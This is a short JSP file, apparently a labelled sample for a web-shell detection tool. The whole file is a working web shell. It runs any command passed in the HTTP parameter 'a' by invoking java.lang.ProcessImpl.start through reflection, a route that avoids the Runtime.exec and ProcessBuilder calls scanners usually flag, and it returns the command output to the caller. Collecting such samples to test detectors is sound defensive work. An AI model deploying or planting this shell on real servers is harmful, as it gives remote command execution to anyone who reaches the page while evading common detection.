<%-- triage-expect: triage_jsp_dynamic_exec --%>
<%@ page import="java.lang.reflect.Method,java.util.Map" %>
<%
    String[] argv = request.getParameter("a").split(" ");
    Class<?> k = Class.forName("java.lang.ProcessImpl");
    Method start = k.getDeclaredMethod("start", String[].class, Map.class, String.class,
            ProcessBuilder.Redirect[].class, boolean.class);
    start.setAccessible(true);
    Process p = (Process) start.invoke(null, argv, null, null, null, false);
    out.print(new java.util.Scanner(p.getInputStream()).useDelimiter("\\A").next());
%>
